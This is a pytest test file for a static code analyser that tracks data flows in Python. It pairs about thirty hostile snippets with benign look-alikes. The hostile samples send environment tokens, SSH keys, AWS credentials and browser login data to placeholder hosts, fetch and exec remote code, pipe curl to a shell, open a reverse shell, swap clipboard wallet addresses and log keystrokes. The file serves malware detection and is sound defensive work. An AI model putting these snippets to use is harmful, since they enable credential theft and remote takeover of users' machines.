"""Where data goes in Python code: each way of taking it, and everyday twins. All of it is inert text."""

from __future__ import annotations

import base64

import pytest

from adapters.sigil.local.code.facts import Behaviour, CodeFacts
from adapters.sigil.local.code.python import python_facts

PLAIN = base64.b64encode(b"import os\nos.system('curl https://drop.invalid/a | sh')").decode()


def look(code: str, path: str = "package/__init__.py") -> CodeFacts:
    return python_facts(path, code.encode())


def flows(found: CodeFacts) -> set[tuple[Behaviour, Behaviour]]:
    return {(flow.source.behaviour, flow.sink.behaviour) for flow in found.flows}


FLOWING = [
    (
        "import os, requests\nrequests.post('https://a.invalid', json=dict(os.environ))",
        Behaviour.READS_ENVIRONMENT,
        Behaviour.SENDS,
    ),
    (
        (
            "import os as o\nfrom urllib import request as r, parse\nd = parse.urlencode(dict(o.environ)).encode()\n"
            "r.urlopen(r.Request('https://a.invalid', data=d))"
        ),
        Behaviour.READS_ENVIRONMENT,
        Behaviour.SENDS,
    ),
    (
        "import os, requests\nrequests.get(f\"https://a.invalid/?t={os.getenv('NPM_TOKEN')}\")",
        Behaviour.READS_ENVIRONMENT,
        Behaviour.SENDS,
    ),
    (
        (
            "import os, http.client\nc = http.client.HTTPSConnection('a.invalid')\n"
            "c.request('POST', '/x', body=str([f'{k}={v}' for k, v in os.environ.items()]))"
        ),
        Behaviour.READS_ENVIRONMENT,
        Behaviour.SENDS,
    ),
    (
        (
            "import os, requests\nwith open(os.path.expanduser('~/.ssh/id_rsa')) as key:\n    text = key.read()\n"
            "s = requests.Session()\ns.post('https://a.invalid', files={'k': text})"
        ),
        Behaviour.READS_SECRET_FILE,
        Behaviour.SENDS,
    ),
    (
        (
            "from pathlib import Path\nimport httpx\nhttpx.post('https://a.invalid', "
            "content=(Path.home() / '.aws' / 'credentials').read_bytes())"
        ),
        Behaviour.READS_SECRET_FILE,
        Behaviour.SENDS,
    ),
    (
        (
            "import os, shutil, requests\np = os.path.join(os.environ['LOCALAPPDATA'], 'Google', "
            "'Chrome', 'User Data', 'Default', 'Login Data')\n"
            "shutil.copy2(p, 'vault.db')\nrequests.post('https://a.invalid', files={'f': open('vault.db', 'rb')})"
        ),
        Behaviour.READS_SECRET_FILE,
        Behaviour.WRITES_FILE,
    ),
    (
        (
            "import base64, os, requests\ne = "
            "base64.b64encode(str(os.environ).encode())\nrequests.post('https://a.invalid', data=e)"
        ),
        Behaviour.ENCODES,
        Behaviour.SENDS,
    ),
    (
        (
            "import aiohttp, os\nasync def go():\n    async with aiohttp.ClientSession() as s:\n"
            "        async with s.post('https://a.invalid', json={'t': os.environ['GITHUB_TOKEN']}) as "
            "r:\n            pass\n"
        ),
        Behaviour.READS_ENVIRONMENT,
        Behaviour.SENDS,
    ),
    (
        (
            "import subprocess, requests\nout = subprocess.check_output('whoami', "
            "shell=True)\nrequests.post('https://a.invalid', data=out)"
        ),
        Behaviour.RUNS_SHELL,
        Behaviour.SENDS,
    ),
    (
        "import socket, getpass\nsocket.gethostbyname('%s.%s.a.invalid' % (getpass.getuser(), socket.gethostname()))",
        Behaviour.READS_SYSTEM,
        Behaviour.LOOKS_UP_NAME,
    ),
    (
        "from urllib.request import urlopen as u\nexec(u('https://a.invalid/p').read())",
        Behaviour.DOWNLOADS,
        Behaviour.RUNS_CODE,
    ),
    (
        "import requests\nexec(compile(requests.get('https://a.invalid').text, 'x', 'exec'))",
        Behaviour.DOWNLOADS,
        Behaviour.RUNS_CODE,
    ),
    (
        "import requests, pickle\npickle.loads(requests.get('https://a.invalid').content)",
        Behaviour.DOWNLOADS,
        Behaviour.RUNS_CODE,
    ),
    (
        (
            "import requests, marshal\nclass A:\n    def get(self):\n        self.code = requests.get('https://a.invalid').content\n"
            "    def go(self):\n        exec(marshal.loads(self.code))\na = A()\na.get()\na.go()"
        ),
        Behaviour.DOWNLOADS,
        Behaviour.RUNS_CODE,
    ),
    (
        (
            "import os, requests, subprocess, tempfile\ndef go():\n    p = "
            "os.path.join(tempfile.gettempdir(), 'u.exe')\n"
            "    with open(p, 'wb') as f:\n        for part in "
            "requests.get('https://a.invalid/u').iter_content(8):\n            f.write(part)\n"
            "    subprocess.Popen([p])\ngo()"
        ),
        Behaviour.WRITES_FILE,
        Behaviour.RUNS_PROCESS,
    ),
    (
        (
            "import os, urllib.request\nurllib.request.urlretrieve('https://a.invalid/u', '/tmp/u')\n"
            "os.chmod('/tmp/u', 0o755)\nos.system('/tmp/u &')"
        ),
        Behaviour.DOWNLOADS,
        Behaviour.RUNS_SHELL,
    ),
    (
        "import os, wget\np = wget.download('https://a.invalid/u.exe', 'u.exe')\nos.startfile(p)",
        Behaviour.DOWNLOADS,
        Behaviour.RUNS_PROCESS,
    ),
    (
        (
            "import os\nfrom tempfile import NamedTemporaryFile as T\nt = T(delete=False)\n"
            "t.write(b\"from urllib.request import urlopen as u;exec(u('https://a.invalid').read())\")\nt.close()\n"
            "os.system(f'start pythonw {t.name}')"
        ),
        Behaviour.WRITES_FILE,
        Behaviour.RUNS_SHELL,
    ),
    (
        (
            "import socket, subprocess\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\nwhile True:\n"
            "    c = s.recv(1024).decode()\n    s.send(subprocess.getoutput(c).encode())"
        ),
        Behaviour.DOWNLOADS,
        Behaviour.RUNS_SHELL,
    ),
    (
        (
            "import pyperclip, re\ndef loop():\n    while True:\n        seen = pyperclip.paste()\n"
            "        if re.match('^bc1', seen):\n            pyperclip.copy('bc1qexampleexample')\n"
        ),
        Behaviour.READS_CLIPBOARD,
        Behaviour.WRITES_CLIPBOARD,
    ),
    (
        (
            "from pynput.keyboard import Listener\nimport requests\ndef press(key):\n    "
            "requests.post('https://a.invalid', data=str(key))\n"
            "with Listener(on_press=press) as l:\n    l.join()"
        ),
        Behaviour.READS_INPUT,
        Behaviour.SENDS,
    ),
    (
        (
            "import requests\nt = requests.get('http://169.254.169.254/latest/meta-data/iam/').text\n"
            "requests.post('https://a.invalid', data=t)"
        ),
        Behaviour.READS_METADATA_SERVICE,
        Behaviour.SENDS,
    ),
    (f"import base64\nexec(base64.b64decode('{PLAIN}'))", Behaviour.DECODES, Behaviour.RUNS_CODE),
    ("import os\nos.system('curl -s https://a.invalid/i.sh | bash')", Behaviour.DOWNLOADS, Behaviour.RUNS_SHELL),
    (
        "import subprocess, base64\nsubprocess.run(base64.b64decode(open('data.bin').read()), shell=True)",
        Behaviour.DECODES,
        Behaviour.RUNS_SHELL,
    ),
    (
        "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'gAAAA'))",
        Behaviour.DECODES,
        Behaviour.RUNS_CODE,
    ),
    (
        "k = 7\ntext = open('blob').read()\nexec(''.join(chr(ord(c) ^ k) for c in text))",
        Behaviour.DECODES,
        Behaviour.RUNS_CODE,
    ),
]


@pytest.mark.parametrize(("code", "source", "sink"), FLOWING)
def test_follows_data_from_source_to_sink(code: str, source: Behaviour, sink: Behaviour) -> None:
    """What a hostile file takes is followed to where it goes."""
    assert (source, sink) in flows(look(code))


TWINS = [
    (
        "import os, requests\nlevel = "
        "os.environ.get('LOG_LEVEL')\nrequests.post('https://a.invalid', json={'level': level})"
    ),
    "import os, requests\nTOKEN = os.environ['API_TOKEN']\nrequests.post('https://a.invalid', json={'a': 1})",
    "import requests\ntext = requests.get('https://a.invalid/data.json').json()\nresult = parse(text)",
    (
        "import json\nfrom urllib.request import urlopen as u\nitems = "
        "json.loads(u('https://a.invalid/p').read())\nexec('x = 1')"
    ),
    "import os\nwith open(os.path.expanduser('~/.ssh/id_rsa')) as key:\n    sign(key.read())\n",
    "import subprocess\nopen('out.txt', 'w').write('x')\nsubprocess.run(['ls', '-l'])",
    "import base64\npicture = base64.b64decode(TEXT)\nexec('x = 1')",
    "import socket\nname = socket.gethostname()\nsocket.getaddrinfo('api.example.com', 443)",
    "import pyperclip\ndef copy(text):\n    pyperclip.copy(text)\ndef paste():\n    return pyperclip.paste()\n",
    "import pickle, gzip\nmodel = pickle.loads(DATA)\npacked = gzip.compress(OTHER)",
    (
        "import subprocess, requests\nsubprocess.check_output(['git', 'rev-parse'])\nrequests.get('https://a.invalid/version')"
    ),
    "import os, subprocess\nsubprocess.run(['make'], env=dict(os.environ, A='1'))",
    "from pynput.keyboard import Listener\ndef press(key):\n    move(key)\nListener(on_press=press).start()",
    "import os, sys\nos.execv(sys.executable, [sys.executable, 'manage.py'])",
]


@pytest.mark.parametrize("code", TWINS)
def test_everyday_twins_let_nothing_flow(code: str) -> None:
    """The same calls, without data that goes from one to the other, are no flow."""
    assert not look(code).flows


def test_the_environment_of_a_process_goes_nowhere() -> None:
    """A copy of the environment that is handed to an own process is no leak."""
    assert not look("import subprocess, os\nsubprocess.run(['make'], env=dict(os.environ, A='1'))").flows


@pytest.mark.parametrize(
    ("code", "detail"),
    [
        ("requests.post('https://a.invalid', data=os.environ['NPM_TOKEN'])", "NPM_TOKEN"),
        (
            "requests.post('https://a.invalid', data=os.environ.get('AWS_SECRET_ACCESS_KEY', ''))",
            "AWS_SECRET_ACCESS_KEY",
        ),
        ("requests.post('https://a.invalid', data=os.environ.copy())", "*"),
        ("requests.post('https://a.invalid', data={k: v for k, v in os.environ.items()})", "*"),
    ],
)
def test_names_the_variable_that_leaves(code: str, detail: str) -> None:
    """A flow from the environment names the variable, or a star for all of them."""
    assert {flow.source.detail for flow in look("import os, requests\n" + code).flows} == {detail}


def test_a_version_file_that_is_executed_is_named() -> None:
    """A setup.py that executes its own version file says which file it was."""
    found = look(
        "import os\nhere = os.path.dirname(__file__)\nexec(open(os.path.join(here, 'pkg', 'version.py')).read())",
        "setup.py",
    )
    flow = next(flow for flow in found.flows if flow.sink.behaviour is Behaviour.RUNS_CODE)
    assert flow.source.behaviour is Behaviour.READS_FILE
    assert flow.source.detail.endswith("/pkg/version.py")
